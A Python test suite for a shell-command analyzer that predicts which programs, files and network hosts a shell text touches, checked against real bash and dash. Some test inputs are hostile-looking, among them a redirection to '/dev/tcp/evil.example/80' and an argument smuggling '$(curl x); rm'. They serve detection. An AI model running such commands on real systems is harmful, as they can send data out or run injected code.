"""What is found in shell text, against what real shells run."""

from __future__ import annotations

import os
import random
import shlex
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st
from tests.support.real_shell import RealShell
from tests.support.shell_checking import is_judged, unpredicted
from tests.support.shell_texts import NOISE, texts

from carrel.policy.shell.cursor import MAX_TEXT
from carrel.policy.shell.finder import find

CORPUS = Path(__file__).parents[1] / "corpus"
COUNT = int(os.environ.get("CARREL_SHELL_TEXTS", "1500"))
SEED = int(os.environ.get("CARREL_SHELL_SEED", "1"))


def corpus() -> list[tuple[str, str, str]]:
    """Theme, what is expected, and text, of every entry."""
    found = []
    for path in sorted(CORPUS.glob("*.txt")):
        for entry in path.read_bytes().decode().removeprefix("%% ").split("\n%% "):
            expected, _, text = entry.partition("\n")
            found.append((path.stem, expected, text.removesuffix("\n")))
    return found


ENTRIES = corpus()


def test_the_corpus_is_large_and_the_everyday_never_asks() -> None:
    assert len({text for _, _, text in ENTRIES}) >= 1000
    assert not [text for theme, expected, text in ENTRIES if theme == "everyday" and expected == "asks"]


def told(text: str) -> str:
    """What is found in a text, as the corpus writes it."""
    found = find(text, cwd="/work")
    if found.asks:
        return "asks"
    names = dict.fromkeys(str(command.arguments[0]) for command in found.commands)
    return " ".join(["runs", *(shlex.quote(name) for name in names), *(["…"] if found.opaque else [])]).replace(
        "\n", "⏎"
    )


@pytest.mark.parametrize("theme", sorted({theme for theme, _, _ in ENTRIES}))
def test_the_corpus_is_read_as_it_says(theme: str) -> None:
    wrong = [(text, expected, told(text)) for at, expected, text in ENTRIES if at == theme and told(text) != expected]
    assert not wrong


@pytest.mark.timeout(600)
@pytest.mark.parametrize(("shell", "dialect"), [("bash", "bash"), ("dash", "sh")])
def test_real_shells_run_nothing_of_the_corpus_that_was_not_predicted(
    real_shell: RealShell, shell: str, dialect: str
) -> None:
    found = [(text, find(text, dialect="sh" if dialect == "sh" else "bash", cwd="/work")) for _, _, text in ENTRIES]
    judged = [(text, each) for text, each in found if is_judged(each)]
    assert len(judged) > len(ENTRIES) * (0.6 if shell == "bash" else 0.4)
    # Shifted by one the second time: the real wrappers are in the path of every other text.
    for shift in (0, 1) if shell == "bash" else (0,):
        shifted = judged[shift:] + judged[:shift]
        ran = real_shell.run([text for text, _ in shifted], shell)
        assert sum(bool(each) for each in ran) > len(judged) / 2
        wrong = [
            (text, missed)
            for (text, each), programs in zip(shifted, ran, strict=True)
            if (missed := unpredicted(each, programs))
        ]
        assert not wrong


@pytest.mark.timeout(7200)
@pytest.mark.parametrize(("shell", "share"), [("bash", 1.0), ("dash", 0.2)])
def test_real_shells_run_nothing_generated_that_was_not_predicted(
    real_shell: RealShell, shell: str, share: float
) -> None:
    made = texts(int(COUNT * share), SEED * 1_000_000)
    found = [(text, find(text, dialect="bash" if shell == "bash" else "sh", cwd="/work")) for text in made]
    # What asks is not run: whatever it did would be no surprise.
    judged = [(text, each) for text, each in found if is_judged(each)]
    ran = real_shell.run([text for text, _ in judged], shell)
    print(f"{len(made)} texts, {len(judged)} without a question, {sum(map(len, ran))} programs ran")
    assert len(judged) > len(made) * (0.3 if shell == "bash" else 0.1)
    wrong = [
        (text, missed)
        for (text, each), programs in zip(judged, ran, strict=True)
        if (missed := unpredicted(each, programs))
    ]
    assert not wrong


@given(st.text(max_size=60))
def test_any_text_is_answered(text: str) -> None:
    find(text, cwd="/w")
    find(text, dialect="sh")


@given(
    st.lists(st.sampled_from([*NOISE, "a", "b", "x=", "eval ", "if ", "case ", "bash -c ", "find -exec "]), max_size=25)
)
def test_any_pile_of_syntax_is_answered(pieces: list[str]) -> None:
    find("".join(pieces), cwd="/w")


@given(st.lists(st.text(max_size=20), max_size=6))
def test_any_argument_list_is_answered(argv: list[str]) -> None:
    find(argv)


@pytest.mark.parametrize(
    "text", ["a\0b", "a\rb", "a\x1b[2Jb", "a\u202eb", "a\ud800", "x" * (MAX_TEXT + 1), "$(" * 200, "{ " * 3000]
)
def test_unusual_text_asks(text: str) -> None:
    assert find(text).asks


def test_depth_is_bounded_without_a_traceback() -> None:
    nested = "a"
    for _ in range(8):
        nested = f"bash -c {shlex.quote(nested)}"
    assert find(nested).commands[-1].arguments == ("a",)
    for _ in range(8):
        nested = f"bash -c {shlex.quote(nested)}"
    assert find(nested).asks
    assert find("; ".join(f"a {number}" for number in range(2000))).asks


def test_argument_lists_are_no_shell_text() -> None:
    found = find(["echo", "$(curl x); rm"])
    assert [command.text for command in found.commands] == ["echo '$(curl x); rm'"]
    assert not found.asks
    assert [command.arguments[0] for command in find(["env", "X=1", "bash", "-c", "a | b"]).commands] == [
        "env", "bash", "a", "b",
    ]  # fmt: skip
    assert find([]).asks


def test_redirections_are_files() -> None:
    found = find("a > x 2>> /tmp/y < ../z; cd sub && b > x; c > $q", cwd="/w")
    assert {(use.operation, use.path) for use in found.files} == {
        ("write", "/w/x"), ("write", "/tmp/y"), ("read", "/z"), ("write", "/w/sub/x"), ("write", None),
    }  # fmt: skip
    assert [use.path for use in find("cd sub && cd .. && cd q && a > ../x", cwd="/w").files] == ["/w/x"]
    assert {use.path for use in find("! cd sub && a > x", cwd="/w").files} == {"/w/x", "/w/sub/x"}
    assert {use.path for use in find("cd sub && b; a > x", cwd="/w").files} == {"/w/x", "/w/sub/x"}
    assert {use.path for use in find("cd sub || b && a > x", cwd="/w").files} == {"/w/x", "/w/sub/x"}
    assert find("a > /dev/null 2>&1 </dev/stdin").files == ()
    assert [(use.host, use.port) for use in find("a > /dev/tcp/evil.example/80").hosts] == [("evil.example", "80")]
    assert [use.path for use in find("env -C /q sh -c 'a > f'").files] == ["/q/f"]


def test_where_the_directory_is_not_known_neither_is_the_file() -> None:
    for text in ("cd; a > f", "cd $x; a > f", "cd -; a > f", "pushd x; a > f", "find . -execdir sh -c 'a > f' \\;"):
        assert [use.path for use in find(text, cwd="/w").files] == [None], text
    assert find("while a; do cd x; b > f; done", cwd="/w").asks
    assert [use.path for use in find("(cd x); a > f", cwd="/w").files] == ["/w/f"]


def test_a_definition_that_an_error_could_skip_is_not_certain_on_the_next_line() -> None:
    def names(text: str) -> set[object]:
        return {command.arguments[0] for command in find(text).commands}

    assert names("a ${!x}; f() { b; }\nf") == {"a", "b", "f"}
    assert names("a ${!x}; f() { b; }; f") == {"a", "b"}
    assert names("a; f() { b; }\nf") == {"a", "b"}
    assert names("a $x\nf() { b; }\nf") == {"a", "b"}
    assert names("g() { a ${!x}; }; g; f() { b; }\nf") == {"a", "b", "f"}


def test_what_it_is_run_by_is_told() -> None:
    found = find("timeout 5 env X=1 bash -c 'curl x'")
    assert found.commands[-1].via == ("timeout", "env", "bash")


def test_reading_takes_time_that_follows_the_length() -> None:
    for text in (
        "a " * 5000,
        "a$x" * 5000,
        "'" + "a" * 60_000 + "'",
        "{a,b}" * 30,
        "`a`" * 3000,
        "a=(" + "b " * 5000 + ")",
    ):
        find(text)
    rng = random.Random(3)
    find("".join(rng.choice(NOISE) for _ in range(20_000)))
